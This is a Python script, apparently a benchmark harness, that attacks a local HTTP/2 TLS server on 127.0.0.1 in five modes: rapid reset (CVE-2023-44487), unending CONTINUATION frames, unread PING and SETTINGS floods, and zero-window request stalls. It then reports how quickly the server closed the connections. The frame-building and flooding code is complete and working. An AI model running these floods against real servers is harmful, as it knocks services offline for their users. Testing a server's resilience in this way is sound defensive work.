#!/usr/bin/env python3
"""HTTP/2 attacks against a TLS server on 127.0.0.1, for bench/h2-flood.sh.

Modes (ATTACKERS connections at once, each reopened when the server closes
it, until DURATION seconds pass):
  rapid-reset   HEADERS then RST_STREAM(CANCEL) for stream after stream
                (CVE-2023-44487)
  continuation  HEADERS without END_HEADERS, then CONTINUATION frames of
                header bytes, never ending the block (CVE-2024-27316 class)
  ping          PING frames, never reading the answers
  settings      SETTINGS frames, never reading the ACKs
  zero-window   SETTINGS_INITIAL_WINDOW_SIZE 0, then as many requests as
                the server allows, never opening a window: responses that
                can never be sent

Writes "ready" to READY_FILE once the first ATTACKERS connections are
attacking, then prints one JSON line when done: connections opened, how
many the server closed (GOAWAY, close or reset) and after how long (the
median), how many were still open at the end and the longest any lived,
and frames sent. Only 127.0.0.1 is ever a target.

Usage: h2_flood.py MODE PORT ATTACKERS DURATION READY_FILE
"""
import asyncio
import json
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
# HPACK: :method GET, :scheme https, :path / (static table), :authority
# localhost (literal without indexing, name from the static table).
REQUEST_BLOCK = b"\x82\x87\x84\x01\x09localhost"
# One literal header without indexing, new name: "x-a: " + 100 bytes.
JUNK_FIELD = b"\x00\x03x-a\x64" + b"b" * 100
MODES = ("rapid-reset", "continuation", "ping", "settings", "zero-window")


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Closed(Exception):
    """The server ended the connection."""


async def read_frames(reader, seen):
    """Reads the server's frames; returns when it sends GOAWAY or closes."""
    try:
        while True:
            head = await reader.readexactly(9)
            length = int.from_bytes(head[:3], "big")
            await reader.readexactly(length)
            if head[3] == GOAWAY:
                seen["goaway"] = True
                return
    except (asyncio.IncompleteReadError, ConnectionError, ssl.SSLError, OSError):
        return


async def attack(mode, port, ctx, deadline, stats):
    """One connection: sets up HTTP/2, attacks until closed or the deadline."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=ctx, server_hostname="localhost")
    opened = time.monotonic()
    stats["opened"] += 1
    tick(stats["opened_by_second"], 1)
    settings = b""
    if mode == "zero-window":
        settings = struct.pack(">HI", 4, 0)  # SETTINGS_INITIAL_WINDOW_SIZE
    writer.write(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, ACK, 0))
    seen = {"goaway": False}
    # ping and settings never read: the attack is the unread answers.
    watcher = None if mode in ("ping", "settings") else asyncio.ensure_future(read_frames(reader, seen))
    stream = 1
    try:
        while time.monotonic() < deadline:
            if watcher is not None and watcher.done():
                raise Closed
            batch = []
            if mode == "rapid-reset":
                for _ in range(100):
                    batch.append(frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST_BLOCK))
                    batch.append(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
                    stream += 2
            elif mode == "continuation":
                if stream == 1:
                    batch.append(frame(HEADERS, END_STREAM, 1, REQUEST_BLOCK))
                    stream = 3
                batch += [frame(CONTINUATION, 0, 1, JUNK_FIELD * 10)] * 10
            elif mode == "ping":
                batch = [frame(PING, 0, 0, b"12345678")] * 1000
            elif mode == "settings":
                batch = [frame(SETTINGS, 0, 0, struct.pack(">HI", 2, 0))] * 1000
            elif mode == "zero-window":
                if stream < 200:
                    batch = [frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST_BLOCK)]
                    stream += 2
                else:
                    await asyncio.sleep(0.2)
            stats["frames"] += len(batch)
            tick(stats["frames_by_second"], len(batch))
            writer.write(b"".join(batch))
            await asyncio.wait_for(writer.drain(), timeout=max(0.01, deadline - time.monotonic()))
        stats["open_at_end"].append(time.monotonic() - opened)
    except asyncio.TimeoutError:
        # (Before OSError: TimeoutError is one.) The deadline, not the server.
        stats["open_at_end"].append(time.monotonic() - opened)
    except (Closed, ConnectionError, ssl.SSLError, OSError):
        stats["closed_after"].append(time.monotonic() - opened)
    finally:
        if watcher is not None:
            watcher.cancel()
        writer.close()


def tick(by_second, n):
    """Counts n in this second of time.monotonic() (the caller checks the
    attack kept its pace while it measured)."""
    second = int(time.monotonic())
    by_second[second] = by_second.get(second, 0) + n


async def attacker(mode, port, ctx, deadline, stats, first):
    while time.monotonic() < deadline:
        try:
            await attack(mode, port, ctx, deadline, stats)
        except (ConnectionError, ssl.SSLError, OSError):
            stats["failed_to_open"] += 1
            await asyncio.sleep(0.05)
        first.set()


async def main():
    mode, port, attackers, duration, ready_file = sys.argv[1:6]
    port, attackers, duration = int(port), int(attackers), float(duration)
    if mode not in MODES:
        sys.exit(f"unknown mode {mode}; one of {', '.join(MODES)}")
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    deadline = time.monotonic() + duration
    stats = {
        "opened": 0,
        "failed_to_open": 0,
        "frames": 0,
        "closed_after": [],
        "open_at_end": [],
        "opened_by_second": {},
        "frames_by_second": {},
    }
    started = [asyncio.Event() for _ in range(attackers)]
    tasks = [asyncio.ensure_future(attacker(mode, port, ctx, deadline, stats, e)) for e in started]
    # Ready once every attacker has its first connection up (or a moment).
    await asyncio.sleep(0.5)
    with open(ready_file, "w") as f:
        f.write("ready\n")
    await asyncio.gather(*tasks)
    closed = sorted(stats["closed_after"])
    print(
        json.dumps(
            {
                "mode": mode,
                "opened": stats["opened"],
                "failed_to_open": stats["failed_to_open"],
                "closed_by_server": len(closed),
                "closed_after_s_median": closed[len(closed) // 2] if closed else None,
                "frames_sent": stats["frames"],
                # Still open when the attack ended, and the longest any
                # attacker connection lived (closed or not).
                "open_at_end": len(stats["open_at_end"]),
                "longest_s": max(closed + stats["open_at_end"], default=0.0),
                "opened_by_second": stats["opened_by_second"],
                "frames_by_second": stats["frames_by_second"],
            }
        )
    )


asyncio.run(main())
